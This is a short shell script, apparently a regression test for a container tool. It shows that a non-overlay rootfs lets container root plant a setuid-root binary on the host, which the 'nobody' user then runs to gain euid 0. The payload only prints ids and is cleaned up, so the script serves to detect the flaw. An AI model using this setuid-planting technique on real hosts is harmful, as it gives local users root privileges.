#!/bin/sh
# `rootfs use DIR` without --overlay: the container writes straight into
# DIR on the host. Root in it (CAP_FSETID, CAP_MKNOD, CAP_CHOWN) leaves a
# setuid-root program (and any device node, mode 0666) there, which every
# local user who can reach DIR runs or opens on the host: here `nobody`
# gets euid 0. DIR is usually under the user's or /tmp (README: ./rootfs).
# Usage: attack/suid-plant.sh CTRSH BUSYBOX_ROOT     (exit 0 = still so)
set -u
ctrsh=${1:?}; root=${2:?}
printf '#include <stdio.h>\n#include <unistd.h>\nint main(void){printf("uid=%%d euid=%%d\\n",getuid(),geteuid());return 0;}\n' > /tmp/euid.$$.c
gcc -static -o "$root/bin/euid" /tmp/euid.$$.c; rm -f /tmp/euid.$$.c
"$ctrsh" -c "ns new pid,uts,ipc,net,mnt; rootfs use $root; exec /bin/sh -c 'cp /bin/euid /suid; chmod 4755 /suid'"
out=$(su -s /bin/sh nobody -c "$root/suid")
rm -f "$root/suid" "$root/bin/euid"
echo "as nobody on the host: $out"
[ "${out#*euid=0}" != "$out" ]
